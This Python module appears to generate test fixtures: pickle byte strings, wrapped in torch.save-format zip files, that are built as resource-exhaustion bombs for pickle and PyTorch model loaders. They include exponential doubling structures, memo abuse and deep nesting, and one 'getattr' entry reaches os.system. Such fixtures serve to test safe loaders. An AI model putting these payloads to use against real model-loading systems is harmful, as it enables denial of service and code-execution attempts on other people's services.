"""Pickles of a few kilobytes, or that a compressor makes as small, that ask for far more."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

TIMES = 300_000

# Forty pairs, each of which holds the one before twice: 2^40 leaves.
DOUBLED = b")" + b"".join(b"q%ch%c\x86" % (k, k) for k in range(40))
_LONG = b"X" + struct.pack("<I", 1 << 20) + b"k" * (1 << 20)
_TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"


def _text(text: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text


def _storage(key: bytes, numel: bytes = b"K\x04") -> bytes:
    return (
        b"(" + _text(b"storage") + b"ctorch\nFloatStorage\n" + key + _text(b"cpu") + numel + b"tQ"
    )


def _tensor(storage: bytes, shape: bytes = b"K\x04\x85") -> bytes:
    return _TENSOR + b"(" + storage + b"K\x00" + shape + shape + b"\x89NtR"


BOMBS = {
    "dicts": b"(" + b"}" * TIMES * 5 + b"t",
    "lists": b"]" * TIMES * 5,
    "marks": b"(" * TIMES * 5 + b"N" + b"t" * TIMES * 5,
    "tuples": b")" + b"\x85" * TIMES * 5,
    "sets": b"(" + b"\x8f" * TIMES * 5 + b"t",
    "calls": b"cx\ny\n" + b")R" * TIMES * 2,
    "new objects": b"(cx\ny\nq\x00" + b"h\x00)\x81" * TIMES + b"t",
    "globals": b"(" + b"".join(b"cm\n%d\n" % n for n in range(100_000)) + b"t",
    "memo": b"}" + b"\x94" * TIMES * 5,
    "far memo": b"}" + b"".join(b"r" + struct.pack("<I", 2 * n + 1) for n in range(TIMES)),
    "bytes": b"(c_codecs\nencode\nq\x00" + _LONG + b"q\x01X\x06\0\0\0latin1q\x02\x86q\x03"
    b"0" + b"h\x00h\x03R" * 50_000 + b"t",
    "key that is hashed": b"}" + DOUBLED + b"Ns",
    "member that is hashed": b"\x8f(" + DOUBLED + b"\x90",
    "frozen member": b"(" + DOUBLED + b"\x91",
    "storage key": _tensor(_storage(DOUBLED)),
    "storage size": _tensor(_storage(_text(b"0"), DOUBLED)),
    "shape": _tensor(_storage(_text(b"0")), DOUBLED),
    "persistent id": DOUBLED + b"Q",
    "long shapes": b"(("
    + b"K\x01" * 1000
    + b"tq\x00"
    + (_tensor(_storage(_text(b"0")), b"h\x00") * 10_000)
    + b"t",
    "walks": b"]q\x00" + b"(" + b"K\x01" * 1000 + b"tq\x010" + b"(" + b"h\x01" * 500_000 + b"l",
    "long paths": _LONG
    + b"q\x010"
    + b"}h\x01" * 3000
    + _tensor(_storage(_text(b"0")))
    + b"s" * 3000,
    "depth": b"(K\x01" * TIMES + b"t" * TIMES,
    "equal keys": b"}("
    + b"".join(
        b"\x8a\x0a" + (((1 << 61) - 1) * (n + 1)).to_bytes(10, "little") + b"N"
        for n in range(60_000)
    )
    + b"u",
    "getattr": b"cbuiltins\ngetattr\n(cos\nsystem\nX\1\0\0\0atR" + DOUBLED + b"\x85R",
    "long number": b"}I" + b"9" * TIMES + b"\nNs",
}


def write(path: Path, name: str) -> None:
    """Writes a file of torch.save with the bomb of this name as its pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a/data.pkl", pickle.PROTO + b"\x02" + BOMBS[name] + pickle.STOP)
        file.writestr("a/version", "3\n")
    path.write_bytes(buffer.getvalue())
